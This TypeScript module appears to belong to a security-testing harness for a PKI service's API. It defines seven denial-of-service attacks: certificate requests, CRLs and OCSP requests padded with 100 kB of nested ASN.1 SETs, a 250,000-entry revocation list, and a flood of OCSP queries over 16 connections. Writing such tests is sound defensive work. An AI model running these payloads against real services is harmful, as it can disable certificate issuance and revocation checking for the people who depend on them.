import { generateKeyPairSync, randomBytes } from 'node:crypto'
import { asn1, contextAround, write, writeNumber } from '../../src/crypto/der.ts'
import { hashOf } from '../../src/crypto/hashes.ts'
import { writePem } from '../../src/crypto/pem.ts'
import { readCertificate } from '../../src/x509/certificate.ts'
import { issuerDigests } from '../../src/x509/ocsp/certid.ts'
import type { Attack, Sent, Target } from './target.ts'
import { counted, dial, head, post } from './wire.ts'

const nestedBytes = 100_000
/** Below the limit for callers without a token. */
const questionBytes = 60_000

/** SETs, each inside the one before. */
function nestedSets(bytes: number): Buffer {
  const heads: Buffer[] = []
  for (let length = 0; length < bytes; ) {
    // DER's length forms: below 128, 256 and 65,536.
    const octets = length < 0x80 ? [length] : length < 0x100 ? [0x81, length] : [0x82, length >> 8, length & 0xff]
    if (length > 0xffff) octets.splice(0, 3, 0x83, length >> 16, (length >> 8) & 0xff, length & 0xff)
    const header = Buffer.of(asn1.set, ...octets)
    heads.push(header)
    length += header.length
  }
  return Buffer.concat(heads.reverse())
}

const algorithm = Buffer.from('300a06082a8648ce3d040302', 'hex')
const bits = (bytes: Uint8Array): Buffer => write(asn1.bitString, Buffer.of(0), bytes)
/** With a random signature: the contents are parsed before it is verified. */
const signed = (...parts: readonly Buffer[]): Buffer =>
  write(asn1.sequence, write(asn1.sequence, ...parts), algorithm, bits(randomBytes(70)))

/** A certificate request whose one attribute holds the nested SETs. */
function nestedRequest(): string {
  const { publicKey } = generateKeyPairSync('ec', { namedCurve: 'prime256v1' })
  const challenge = Buffer.from('06092a864886f70d010907', 'hex')
  const attributes = write(contextAround(0), write(asn1.sequence, challenge, nestedSets(nestedBytes)))
  const spki = publicKey.export({ type: 'spki', format: 'der' })
  const der = signed(Buffer.from('020100', 'hex'), write(asn1.sequence), spki, attributes)
  return writePem('CERTIFICATE REQUEST', der)
}

/** A revocation list whose entries are the nested SETs. */
function nestedList(): string {
  const time = write(asn1.utcTime, Buffer.from('260101000000Z'))
  return writePem(
    'X509 CRL',
    signed(Buffer.from('020101', 'hex'), algorithm, write(asn1.sequence), time, nestedSets(nestedBytes)),
  )
}

const root =
  (path: string, body: object): Attack['run'] =>
  (target) =>
    post(target, `pki/${path}`, JSON.stringify(body), target.rootToken)

const clients = 16

/** Asks about serial numbers that nobody issued, one after the other on each of 16 connections. */
async function askUnknown(target: Target, requests: number): Promise<Sent> {
  const connections = await Promise.all(Array.from({ length: clients }, () => dial(target)))
  const hash = hashOf('sha1')
  const digests = issuerDigests(hash, readCertificate(target.authority))
  let bytes = 0
  let left = requests
  const statuses: string[] = []
  await Promise.all(
    connections.map(async ({ socket, send, answer }) => {
      while (left-- > 0 && !socket.destroyed) {
        const [name, key] = [digests.subarray(0, hash.bytes), digests.subarray(hash.bytes)]
        const certId = write(
          asn1.sequence,
          hash.digestInfo.subarray(2, -2),
          write(asn1.octetString, name),
          write(asn1.octetString, key),
          // Without leading zeros.
          writeNumber(Buffer.concat([Buffer.of(1), randomBytes(18)])),
        )
        const body = write(asn1.sequence, write(asn1.sequence, write(asn1.sequence, write(asn1.sequence, certId))))
        const text = head('POST', 'pki/ocsp', { 'Content-Length': body.length })
        await send(Buffer.concat([Buffer.from(text), body]))
        statuses.push(await answer())
        bytes += text.length + body.length
      }
      socket.destroy()
    }),
  )
  return { bytes, requests: statuses.length, answers: counted(statuses) }
}

const revoked = (entries: number): object => ({
  crl_number: 1,
  revoked_certs: Array.from({ length: entries }, (_, index) => ({
    serial_number: (0x1000000 + index).toString(16).padStart(8, '0'),
    revocation_time: 1_700_000_000,
  })),
})

/** DER that costs more than its size suggests, and questions without end. @param questions OCSP requests */
export const authority = (questions: number): readonly Attack[] => [
  {
    title: 'a CSR of 100 kB of nested SETs, sign',
    run: root('sign/web', { csr: nestedRequest(), common_name: 'a.b' }),
  },
  { title: 'the same, sign-verbatim', run: root('sign-verbatim', { csr: nestedRequest() }) },
  {
    title: 'the same, sign-intermediate',
    run: root('root/sign-intermediate', { csr: nestedRequest(), common_name: 'a' }),
  },
  {
    title: 'a CRL of 100 kB of nested SETs, resign-crls',
    run: root('issuer/default/resign-crls', { crl_number: 1, crls: [nestedList()] }),
  },
  {
    title: 'a CRL of 250,000 entries, sign-revocation-list',
    run: root('issuer/default/sign-revocation-list', revoked(250_000)),
  },
  {
    title: '60 kB of nested SETs as an OCSP request',
    run: (target) => post(target, 'pki/ocsp', nestedSets(questionBytes)),
  },
  { title: `${questions} OCSP requests for unknown serial numbers`, run: (target) => askUnknown(target, questions) },
]
